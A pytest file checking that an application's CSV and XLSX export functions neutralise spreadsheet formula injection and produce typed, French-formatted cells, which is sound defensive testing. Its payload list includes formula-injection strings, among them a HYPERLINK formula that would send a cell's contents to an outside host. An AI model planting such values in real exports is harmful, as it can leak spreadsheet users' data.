"""A value as an export cell: text a spreadsheet would run as a formula is neutralised in CSV and
XLSX; numbers, amounts and dates are typed cells in XLSX."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from opuss.core.exports import (
    AMOUNT_FORMAT,
    DATE_FORMAT,
    DATETIME_FORMAT,
    csv_cell,
    write_csv,
    xlsx_bytes,
)

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    '=HYPERLINK("https://exemple.fr/?q="&A1;"Cliquez")',
    "\t=1+1",
    "\r=1+1",
]


def sheet_row(*values):
    """The cells of the one data row of an XLSX, read back."""
    data = xlsx_bytes("export", [f"Colonne {i}" for i in range(len(values))], [values])
    return list(load_workbook(io.BytesIO(data)).active.iter_rows(min_row=2))[0]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_starting_like_a_formula_gets_an_apostrophe_in_csv(payload):
    assert csv_cell(payload) == f"'{payload}"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_starting_like_a_formula_is_a_neutralised_string_cell_in_xlsx(payload):
    (cell,) = sheet_row(payload)
    assert cell.data_type == "s"
    assert cell.value == f"'{payload}".replace("\r", "\n")  # XML reads a CR as a line feed


@pytest.mark.parametrize("text", ["Durand", "Jean-Pierre", "1+1", "a=b", " =1+1", ""])
def test_ordinary_text_is_left_alone(text):
    assert csv_cell(text) == text


def test_an_object_shown_as_text_is_neutralised_too():
    class Named:
        def __str__(self):
            return "=1+1"

    assert csv_cell(Named()) == "'=1+1"
    assert sheet_row(Named())[0].value == "'=1+1"


def test_negative_numbers_stay_numbers():
    assert csv_cell(-3) == "-3"
    assert csv_cell(Decimal("-12.5")) == "-12,50\u00a0€"
    integer, amount = sheet_row(-3, Decimal("-12.5"))
    assert (integer.data_type, integer.value) == ("n", -3)
    assert (amount.data_type, amount.value) == ("n", -12.5)


def test_numbers_dates_and_amounts_are_typed_cells_with_french_formats(settings):
    settings.TIME_ZONE = "Europe/Paris"
    taken = dt.datetime(2025, 10, 6, 8, 30, tzinfo=dt.UTC)  # 10:30 in Paris
    count, amount, born, at = sheet_row(42, Decimal("2145.78"), dt.date(2012, 3, 14), taken)
    assert (count.data_type, count.value) == ("n", 42)
    assert (amount.value, amount.number_format) == (2145.78, AMOUNT_FORMAT)
    assert born.is_date and born.value == dt.datetime(2012, 3, 14)
    assert born.number_format == DATE_FORMAT
    assert at.is_date and at.value == dt.datetime(2025, 10, 6, 10, 30)
    assert at.number_format == DATETIME_FORMAT


def test_booleans_are_oui_or_non_and_none_is_an_empty_cell():
    assert [csv_cell(True), csv_cell(False), csv_cell(None)] == ["Oui", "Non", ""]
    yes, no, nothing = sheet_row(True, False, None)
    assert (yes.value, no.value, nothing.value) == ("Oui", "Non", None)


def test_control_characters_do_not_break_the_xlsx():
    assert sheet_row("Du\x01rand\x0b")[0].value == "Durand"


def test_the_csv_opens_in_a_french_spreadsheet():
    stream = io.StringIO()
    write_csv(stream, ["Nom", "Montant"], [["=1+1", Decimal("2145.78")]])
    text = stream.getvalue()
    assert text.startswith("\ufeffNom;Montant\r\n")
    assert list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";")) == [
        ["Nom", "Montant"],
        ["'=1+1", "2\u202f145,78\u00a0€"],
    ]
